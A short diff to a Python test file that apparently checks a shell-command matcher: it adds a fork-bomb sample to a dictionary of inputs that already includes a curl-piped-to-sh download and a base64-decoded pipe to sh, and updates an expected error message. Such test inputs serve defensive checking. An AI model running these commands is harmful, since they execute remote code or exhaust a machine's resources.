@@ -17,6 +17,7 @@ UNREAD = {
     "open": 'bash -c "$x"',
     "network": "curl -s https://example.com/x | sh",
     "decoded": "base64 -d file | sh",
+    "endless": "f(){ f | f & }; f",
     "limit": "( " * 500 + "a" + " )" * 500,
 }
 
@@ -73,7 +74,7 @@ def test_it_is_a_matcher_beside_others() -> None:
     ("text", "words"),
     [
         ("unread(decode)", "did you mean `unread(decoded)`?"),
-        ("unread(x)", "use one of syntax, code, open, network, decoded, limit"),
+        ("unread(x)", "use one of syntax, code, open, network, decoded, endless, limit"),
         ("unread()", "use one of"),
     ],
 )
